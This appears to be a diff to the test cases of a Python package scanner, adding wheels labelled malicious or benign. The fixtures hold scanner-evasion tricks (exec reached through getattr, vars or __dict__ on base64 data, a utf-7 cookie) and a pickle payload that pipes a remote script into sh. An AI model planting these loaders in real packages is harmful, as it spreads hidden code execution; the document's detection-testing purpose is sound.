@@ -101,6 +101,13 @@ CASES = [
             f"    MODEL = {fullwidth('pickle')}.{fullwidth('load')}(f)\n"),
         "fwpickle/model.pkl": b"cos\nsystem\n(S'curl -s https://r.x.invalid/i.sh | sh'\ntR."},
         "malicious", ("PV360", "PV230")),
+    _wheel("getattr (builtins, 'ex' + 'ec') with a blank before the parenthesis", "getattrsp",
+           _init("getattrsp", "import base64, builtins\ngetattr (builtins, 'ex' + 'ec')("
+                              f"base64.b64decode({B64!r}))\n"), "malicious", ("PV211", "PV201")),
+    _wheel("vars (builtins)[...] and builtins.__dict__ [...] with blanks", "varssp", _init(
+        "varssp", "import base64, builtins\n_r = vars (builtins)['ex' + 'ec']\n"
+                  "_r2 = builtins.__dict__ ['ev' + 'al']\n"
+                  f"_r(base64.b64decode({B64!r}))\n"), "malicious", ("PV211", "PV201")),
     # source codecs Python ships: the text pkgvet reads is the decoded text
     _wheel("utf-7 coding cookie spells exec as +AGUAeABlAGM-", "utf7src", {
         "utf7src/__init__.py": (f"# coding: utf-7\nimport base64\n+AGUAeABlAGM-(base64."
@@ -356,6 +363,12 @@ CASES = [
                            "for r in rows)}\"\n\n\ndef version():\n"
                            "    return subprocess.check_output(['git', 'describe'], text=True)\n"),
            "benign"),
+    _wheel("tests mocking builtins.open; a registry kept in globals ()['__all__']", "mockopen",
+           _init("mockopen", "import builtins\nfrom unittest import mock\n\n__all__ = []\n\n\n"
+                             "def register(f):\n    globals ()['__all__'].append(f.__name__)\n"
+                             "    return f\n\n\n@register\ndef read_config(path):\n"
+                             "    with mock.patch.object(builtins, 'open', mock.mock_open("
+                             "read_data='x')):\n        return open(path).read()\n"), "benign"),
     _wheel("template path hook importing a .tpl of plain assignments", "tplhook", {
         "tplhook/__init__.py": (
             "import os, sys\nfrom importlib.machinery import FileFinder, SourceFileLoader\n\n\n"
